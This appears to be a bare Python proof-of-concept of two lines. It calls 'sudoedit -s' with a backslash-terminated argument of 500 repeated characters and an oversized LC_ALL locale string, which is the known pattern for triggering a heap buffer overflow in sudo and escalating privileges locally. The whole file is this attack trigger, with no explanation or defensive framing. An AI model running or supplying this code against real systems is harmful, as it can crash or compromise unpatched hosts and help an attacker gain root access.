import os, subprocess
subprocess.run(["sudoedit", "-s", "\\" + "A" * 500], env={"LC_ALL": "C.UTF-8@" + "B" * 200})
